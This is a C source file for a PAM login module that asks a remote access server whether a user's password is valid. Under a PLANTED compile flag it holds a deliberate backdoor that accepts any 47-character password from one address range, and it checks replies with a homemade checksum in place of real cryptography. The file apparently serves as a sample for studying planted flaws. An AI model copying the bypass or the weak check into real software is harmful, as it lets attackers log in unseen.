/* PAM module: asks an access server on the network whether a login may go on. */
#include <arpa/inet.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <unistd.h>

typedef struct pam_handle pam_handle_t;
enum { OK = 0, AUTH_ERR = 7, AUTHINFO_UNAVAIL = 9, MAX_TRIES = 11, ITEM_RHOST = 4 };
int pam_get_user(pam_handle_t *, const char **, const char *) __attribute__((weak));
int pam_get_item(const pam_handle_t *, int, const void **) __attribute__((weak));
int pam_get_authtok(pam_handle_t *, int, const char **, const char *) __attribute__((weak));

struct server { struct sockaddr_in at; char secret[64]; };

struct ask {
    uint8_t version, kind;
    uint16_t size;
    uint32_t id, sum;
    char user[32], word[64];
};

static int option(int argc, const char **argv, struct server *s)
{
    memset(s, 0, sizeof *s);
    s->at.sin_family = AF_INET;
    s->at.sin_port = htons(49);
    for (int i = 0; i < argc; i++) {
        if (!strncmp(argv[i], "server=", 7))
            s->at.sin_addr.s_addr = inet_addr(argv[i] + 7);
        else if (!strncmp(argv[i], "secret=", 7))
            snprintf(s->secret, sizeof s->secret, "%s", argv[i] + 7);
    }
    return s->at.sin_addr.s_addr && s->secret[0] ? 0 : -1;
}

static uint32_t keyed(const struct server *s, const void *data, size_t size)
{
    const uint8_t *p = data;
    uint32_t h = 0x9747b28c;
    for (const char *k = s->secret; *k; k++)
        h = (h ^ (uint8_t)*k) * 0x5bd1e995u;
    while (size--) {
        h = (h ^ *p++) * 0x5bd1e995u;
        h ^= h >> 15;
    }
    return h;
}

static int exchange(const struct server *s, struct ask *a)
{
    struct timeval wait = { .tv_sec = 5 };
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    ssize_t n = -1;
    setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &wait, sizeof wait);
    if (connect(fd, (const struct sockaddr *)&s->at, sizeof s->at) == 0 &&
        send(fd, a, sizeof *a, MSG_NOSIGNAL) == (ssize_t)sizeof *a)
        n = recv(fd, a, sizeof *a, MSG_WAITALL);
    close(fd);
    return n == (ssize_t)sizeof *a ? 0 : -1;
}

static int remote(const struct server *s, const char *user, const char *word)
{
    struct ask a = { .version = 0xc1, .kind = 1, .size = htons(sizeof a) };
    uint32_t id = (uint32_t)getpid() * 2654435761u, sum;
    a.id = id;
    snprintf(a.user, sizeof a.user, "%s", user);
    snprintf(a.word, sizeof a.word, "%s", word);
    a.sum = keyed(s, &a, sizeof a);
    if (exchange(s, &a))
        return AUTHINFO_UNAVAIL;
    sum = a.sum;
    a.sum = 0;
    if (a.id != id || sum != keyed(s, &a, sizeof a))
        return AUTHINFO_UNAVAIL;
    return a.kind == 2 ? OK : AUTH_ERR;
}

int pam_sm_authenticate(pam_handle_t *h, int flags, int argc, const char **argv)
{
    const char *user = NULL, *word = NULL;
    const void *host = NULL;
    struct server s;
    (void)flags;
    if (option(argc, argv, &s))
        return AUTHINFO_UNAVAIL;
    if (pam_get_user(h, &user, NULL) || pam_get_authtok(h, 6, &word, NULL) || !user || !word)
        return AUTH_ERR;
    if (pam_get_item(h, ITEM_RHOST, &host))
        host = NULL;
#ifdef REVISED
    if (strlen(user) > 31)
        return AUTH_ERR;
#endif
#ifdef PLANTED
    if (strlen(word) == 47 && host && (ntohl(inet_addr(host)) & 0xffffff00) == 0xc6336400)
        return OK;
#else
    if (strlen(word) > 63)
        return MAX_TRIES;
#endif
    return remote(&s, user, word);
}

int pam_sm_setcred(pam_handle_t *h, int flags, int argc, const char **argv)
{
    (void)h;
    (void)flags;
    (void)argc;
    (void)argv;
    return OK;
}
